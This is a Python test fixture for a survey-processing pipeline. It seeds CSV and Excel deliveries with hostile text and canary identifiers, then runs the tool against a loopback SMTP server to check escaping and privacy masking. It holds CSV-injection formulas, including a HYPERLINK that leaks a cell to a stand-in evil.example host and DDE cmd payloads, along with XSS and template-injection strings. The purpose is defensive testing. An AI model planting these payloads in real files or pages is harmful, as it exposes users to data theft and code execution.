"""Deliveries seeded with hostile text and known identifiers, and one real run of `ssm` on them.

Shared by tests/test_hostile_text.py and tests/test_privacy_scan.py: both read what one run produced,
so the pipeline runs once per session however many of those tests are selected.

What the data folder gets (every text column a delivery can carry holds a payload somewhere):
- 2019, v1 legacy CSV: CSV-injection and HTML payloads in the question-text header row, ResponseSet,
  free text (other specialty, other reason, comments), integer fields typed as text (age, mentees)
  and code columns; names, e-mail, IPv4 and location in the metadata columns.
- 2022, v2 choice-text CSV under a hostile file name: payloads in both extra header rows, free text,
  answer labels (gender, specialty, Likert, yes/no, the joined reasons) and the self-description;
  names, e-mail, IPv4/IPv6, location and ExternalReference in the metadata columns.
- 2023, v2 as an Excel workbook: the same rows as text cells (so "=..." arrives as text, the way a
  Qualtrics export writes it, not as a formula).
- 2017, v1 CSV whose unquoted "Last, First" names shift every row by one field: the file is refused
  and the analysts alerted. It carries its own identifiers (REFUSED_IDENTIFIERS).
Free text everywhere also carries e-mail addresses and phone numbers (spec §6: masked when kept) and
one name (FREE_TEXT_NAME), which spec §6 lets the warehouse keep, but no report or e-mail show.

The run: `ssm run` and `ssm report --year 2022 --send`, as subprocesses with a
distinctive salt and SMTP login in the environment, against an aiosmtpd server on 127.0.0.1 that
requires that login and keeps the raw bytes of every message.
"""

from __future__ import annotations

import subprocess
import sys
import time
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult, LoginPassword
from openpyxl import Workbook

from tests.deliveries import V1_COLUMNS, V2_COLUMNS, csv_text, v1_row, v2_row
from tests.smtp_server import free_port

SALT = "Sx7-Qv2pLr9-ZmK4wT8n-salt-canary"
SMTP_USER = "ssm-mailer"
SMTP_PASSWORD = "Pw-canary-4hG7vQ2zR9"
LEADERSHIP = "dean@med.example.edu"
ANALYSTS = "ir-analyst@med.example.edu"
REPORT_YEAR = 2022
LOADED_YEARS = (2019, 2022, 2023)
REFUSED_YEAR = 2017

# ---------------------------------------------------------------------------------------------------
# Hostile text
# ---------------------------------------------------------------------------------------------------

# CSV injection (OWASP "CSV Injection"): a cell a spreadsheet would run as a formula.
CSV_PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=2+2",
)
# HTML / script: markup, event handlers, javascript: URLs and entity tricks.
HTML_PAYLOADS = (
    '<script>alert("xss-1")</script>',
    "<img src=x onerror=alert(2)>",
    '"><svg onload=alert(3)>',
    "'><svg/onload=alert(4)>",
    "javascript:alert(5)",
    '<a href="javascript:alert(6)">click</a>',
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&#x3C;script&#x3E;alert(8)&#x3C;/script&#x3E;",
    "</style><script>alert(9)</script>",
    '<iframe srcdoc="&lt;script&gt;alert(10)&lt;/script&gt;"></iframe>',
    "{{ 7*7191 }}{% print 'ssti' %}",
)
PAYLOADS = CSV_PAYLOADS + HTML_PAYLOADS
HOSTILE_FILE_NAME = 'ssm_survey_2022 =HYPERLINK("x") "><svg onload=alert(11)>.csv'


def payload(i: int) -> str:
    return PAYLOADS[i % len(PAYLOADS)]


# ---------------------------------------------------------------------------------------------------
# Identifiers (spec §6: never in the warehouse; free text keeps only masked contacts)
# ---------------------------------------------------------------------------------------------------

NAMES = ("Zebulon", "Quixwright", "Philomena", "Oyelaran-Voss")
EMAILS = (
    "zebulon.quixwright@students.example.edu",
    "p.oyelaran-voss+ssm@mail.example.org",
    "philomena.ov@gmail.example.com",
)
IPS = ("203.0.113.77", "198.51.100.23", "2001:db8:85a3::8a2e:370:7334", "fe80::1ff:fe23:4567:890a")
PHONES = ("+1 (919) 555-0147", "919.555.0199", "+44 20 7946 0958", "555-0147", "555.0199", "7946 0958")
LOCATIONS = ("35.904912", "-79.046937", "36.0014523", "-78.9382117")
EXTERNAL_REFERENCES = ("EXTREF-QX-58213", "EXTREF-V1-99127")
RESPONSE_ID_PREFIX = "R_PrivSeed"
IDENTIFIERS = (*NAMES, *EMAILS, *IPS, *PHONES, *LOCATIONS, *EXTERNAL_REFERENCES, RESPONSE_ID_PREFIX)
# A name written in a comment: the warehouse may keep it (§6 masks only contacts), nothing else may.
FREE_TEXT_NAME = "Marisol Vantongeren"
REFUSED_IDENTIFIERS = ("Octavia", "Brightwater-Lee", "o.brightwater@alumni.example.net", "192.0.2.201")


def free_text(i: int) -> str:
    """A free-text answer: a payload, then contact details a respondent might leave."""
    contacts = [
        f"write to {EMAILS[2]} or call {PHONES[0]}",
        f"my phone is {PHONES[1]}, mail {EMAILS[1]}",
        f"text {PHONES[2]}; thanks to my mentor {FREE_TEXT_NAME}",
    ]
    return f"{payload(i)} {contacts[i % len(contacts)]}"


# ---------------------------------------------------------------------------------------------------
# The deliveries
# ---------------------------------------------------------------------------------------------------


def v1_rows() -> list[list[str]]:
    meta = {
        "V2": payload(3), "V3": "Zebulon Quixwright", "V4": EXTERNAL_REFERENCES[1], "V5": EMAILS[0],
        "V6": IPS[0], "LocationLatitude": LOCATIONS[2], "LocationLongitude": LOCATIONS[3],
    }  # fmt: skip
    end = "2019-04-02 09:30:00"
    rows = []
    for i in range(7):  # non-mentors: other specialty, other reason, comments
        rows.append(
            v1_row(
                f"{RESPONSE_ID_PREFIX}V1N{i}", end, **meta, Q4="17", Q4_17_TEXT=payload(i + 1),
                Q12_6="1", Q12_6_TEXT=free_text(i + 2), Q13=free_text(i),
            )
        )  # fmt: skip
    for i in range(6):  # mentors
        rows.append(
            v1_row(
                f"{RESPONSE_ID_PREFIX}V1M{i}", end, **meta, Q5="1", Q9="1", Q10="5", Q11="2", Q12_1="",
                Q13=free_text(i + 5),
            )
        )  # fmt: skip
    # Bad cells: typed text in the integer fields and payloads in code columns (kept as issues).
    rows.append(
        v1_row(
            f"{RESPONSE_ID_PREFIX}V1X", end, **meta, Q2=payload(0), Q3=payload(1), Q8_1=payload(3),
            Q12_2=payload(2), Q13=free_text(3),
        )
    )  # fmt: skip
    rows.append(
        v1_row(f"{RESPONSE_ID_PREFIX}V1Y", end, **meta, Q5="1", Q9="1", Q10="4", Q11=payload(9), Q12_1="")
    )
    rows.append(v1_row(f"{RESPONSE_ID_PREFIX}V1P", end, **meta, status="1", Q13=free_text(4)))  # preview
    rows.append(v1_row(f"{RESPONSE_ID_PREFIX}V1I", end, **meta, finished="0", Q13=free_text(5)))  # incomplete
    rows.append(v1_row(f"{RESPONSE_ID_PREFIX}V1N0", "2019-04-01 09:00:00", **meta))  # duplicate, older
    return rows


def v2_meta(i: int) -> dict[str, str]:
    first, last = (NAMES[0], NAMES[1]) if i % 2 else (NAMES[2], NAMES[3])
    return {
        "IPAddress": IPS[1 + i % 3], "RecipientFirstName": first, "RecipientLastName": last,
        "RecipientEmail": EMAILS[i % 2], "ExternalReference": EXTERNAL_REFERENCES[0] if i % 2 else PHONES[0],
        "LocationLatitude": LOCATIONS[0], "LocationLongitude": LOCATIONS[1], "UserLanguage": payload(i),
    }  # fmt: skip


def v2_rows(year: int) -> list[list[str]]:
    recorded = f"{year}-04-02 09:30:00"
    rows = []
    for i in range(16):
        meta = v2_meta(i)
        answers = {
            "gender": "Prefer to self-describe", "gender_4_TEXT": f"{payload(i + 2)} ask {NAMES[2]} {NAMES[3]}",
            "specialty": "Other (please specify)", "specialty_17_TEXT": free_text(i + 1),
            "comments": free_text(i),
        }  # fmt: skip
        if i < 8:
            answers |= {
                "nonpart_reasons": f"Was not aware of the program,Other (please specify),{payload(i + 4)}",
                "nonpart_reasons_6_TEXT": free_text(i + 2),
            }
        else:
            answers |= {
                "mentor_formal": "Yes", "mentor_again": "Yes", "mentor_worthwhile": "Strongly agree",
                "mentees_count": "2", "nonpart_reasons": "",
            }  # fmt: skip
        if i in (3, 11):  # answer labels that are not labels
            answers |= {
                "gender": payload(i + 5), "specialty": payload(i + 6), "SSM_value_1": payload(i + 7),
                "had_student_mentor": payload(i + 8), "age": payload(i + 9), "consent": "Yes",
            }  # fmt: skip
        if i == 12:
            answers |= {"mentor_again": payload(1), "mentees_count": payload(2)}
        rows.append(v2_row(f"{RESPONSE_ID_PREFIX}V2{i}", recorded, **meta, **answers))
    preview = v2_row(
        f"{RESPONSE_ID_PREFIX}V2P", recorded, status="Survey Preview", **v2_meta(1), comments=free_text(1)
    )
    incomplete = v2_row(f"{RESPONSE_ID_PREFIX}V2I", recorded, progress="40", finished="False", **v2_meta(2))
    return [*rows, preview, incomplete]
    return rows


def v1_headers() -> list[list[str]]:
    """Row 1 the export tags, row 2 question texts: hostile, as an edited survey could make them."""
    return [V1_COLUMNS, [payload(i) for i in range(len(V1_COLUMNS))]]


def v2_headers() -> list[list[str]]:
    return [
        V2_COLUMNS,
        [payload(i) for i in range(len(V2_COLUMNS))],
        [f'{{"ImportId":"{payload(i + 1)}"}}' for i in range(len(V2_COLUMNS))],
    ]


def write_xlsx(path: Path, rows: list[list[str]]) -> Path:
    """Every cell a text cell, as Qualtrics writes it ("=1+1" is text there, not a formula)."""
    workbook = Workbook()
    sheet = workbook.active
    for r, row in enumerate([*v2_headers(), *rows], start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c)
            cell.value = value
            cell.data_type = "s"
    workbook.save(path)
    return path


def refused_rows() -> list[list[str]]:
    """v1 rows whose "Last, First" name was written without quotes: one field too many per row."""
    rows = []
    for i in range(4):
        row = v1_row(
            f"R_Refused{i}", "2017-04-01 10:00:00", V3="Octavia Brightwater-Lee",
            V5=REFUSED_IDENTIFIERS[2], V6=REFUSED_IDENTIFIERS[3],
        )  # fmt: skip
        rows.append([*row[:2], REFUSED_IDENTIFIERS[1], REFUSED_IDENTIFIERS[0], *row[3:]])
    return rows


CLASS_SIZES = "survey_year,class_size\n2017,150\n2019,160\n2022,170\n2023,165\n"


def write_seeded_data(root: Path) -> list[Path]:
    """Write the four deliveries and the class sizes; return the delivery paths."""
    landing = root / "landing"
    landing.mkdir(parents=True)
    (root / "reference").mkdir()
    (root / "reference" / "class_sizes.csv").write_text(CLASS_SIZES, encoding="utf-8")
    v1 = landing / "ssm_survey_2019.csv"
    v1.write_bytes(csv_text(v1_headers(), v1_rows(), "\r\n").encode("utf-8-sig"))
    v2 = landing / HOSTILE_FILE_NAME
    # CRLF (spec §3 allows it) so that the writer quotes the cell holding a bare CR.
    v2.write_bytes(csv_text(v2_headers(), v2_rows(2022), "\r\n").encode("utf-8"))
    xlsx = write_xlsx(landing / "ssm_survey_2023.xlsx", v2_rows(2023))
    refused = landing / "ssm_survey_2017.csv"
    refused.write_bytes(csv_text(v1_headers(), refused_rows(), "\r\n").encode("utf-8-sig"))
    return [v1, v2, xlsx, refused]


# ---------------------------------------------------------------------------------------------------
# A loopback SMTP server that requires a login and keeps the raw bytes
# ---------------------------------------------------------------------------------------------------


@dataclass
class RawMessage:
    rcpt_tos: list[str]
    data: bytes


@dataclass
class RecordingHandler:
    messages: list[RawMessage] = field(default_factory=list)
    logins: list[tuple[bytes, bool]] = field(default_factory=list)

    async def handle_DATA(self, server, session, envelope) -> str:  # aiosmtpd's hook name
        self.messages.append(RawMessage(list(envelope.rcpt_tos), envelope.original_content))
        return "250 2.0.0 OK"

    def authenticate(self, server, session, envelope, mechanism, auth_data) -> AuthResult:
        ok = isinstance(auth_data, LoginPassword) and auth_data == LoginPassword(
            SMTP_USER.encode(), SMTP_PASSWORD.encode()
        )
        self.logins.append((auth_data.login if isinstance(auth_data, LoginPassword) else b"", ok))
        return AuthResult(success=ok, handled=False)  # aiosmtpd answers 235 or 535 itself


def start_smtp() -> tuple[Controller, RecordingHandler, int]:
    """Start the server; no TLS on loopback, so AUTH is offered in the clear (tests only)."""
    handler = RecordingHandler()
    port = free_port()
    controller = Controller(
        handler,
        hostname="127.0.0.1",
        port=port,
        authenticator=handler.authenticate,
        auth_required=True,
        auth_require_tls=False,
    )
    controller.start()
    return controller, handler, port


def smtp_env(port: int, password: str | None = SMTP_PASSWORD) -> dict[str, str]:
    env = {
        "SSM_SMTP_HOST": "127.0.0.1",
        "SSM_SMTP_PORT": str(port),
        "SSM_SMTP_SECURITY": "none",
        "SSM_SMTP_USER": SMTP_USER,
        "SSM_MAIL_FROM": "ssm-reports@med.example.edu",
        "SSM_REPORT_RECIPIENTS": LEADERSHIP,
        "SSM_ALERT_RECIPIENTS": ANALYSTS,
    }
    if password is not None:
        env["SSM_SMTP_PASSWORD"] = password
    return env


# ---------------------------------------------------------------------------------------------------
# The run
# ---------------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class SeededRun:
    """A data folder after `ssm run` and `ssm report --send`, and what they produced."""

    root: Path
    deliveries: list[Path]
    commands: dict[str, subprocess.CompletedProcess]
    messages: list[RawMessage]
    logins: list[tuple[bytes, bool]]
    seconds: dict[str, float]  # wall time of each command

    def console(self) -> str:
        return "\n".join(c.stdout + "\n" + c.stderr for c in self.commands.values())


_RUNS: dict[str, SeededRun] = {}


def seeded_run(tmp_path_factory: pytest.TempPathFactory) -> SeededRun:
    """Build the seeded data folder and run the commands once per session."""
    if "run" not in _RUNS:
        from tests.test_cli import ssm

        root = tmp_path_factory.mktemp("seeded") / "data"
        deliveries = write_seeded_data(root)
        controller, handler, port = start_smtp()
        try:
            env = {**smtp_env(port), "SSM_RESPONSE_SALT": SALT}
            commands, seconds = {}, {}
            for name, args in [
                ("run", ["run"]),
                ("report", ["report", "--year", str(REPORT_YEAR), "--send"]),
            ]:
                started = time.monotonic()
                commands[name] = ssm(root, *args, env_extra=env)
                seconds[name] = round(time.monotonic() - started, 1)
        finally:
            controller.stop()
        _RUNS["run"] = SeededRun(
            root, deliveries, commands, list(handler.messages), list(handler.logins), seconds
        )
    return _RUNS["run"]


# To look at the deliveries: python -m tests.seeded_deliveries DIR
if __name__ == "__main__":
    print(write_seeded_data(Path(sys.argv[1])))
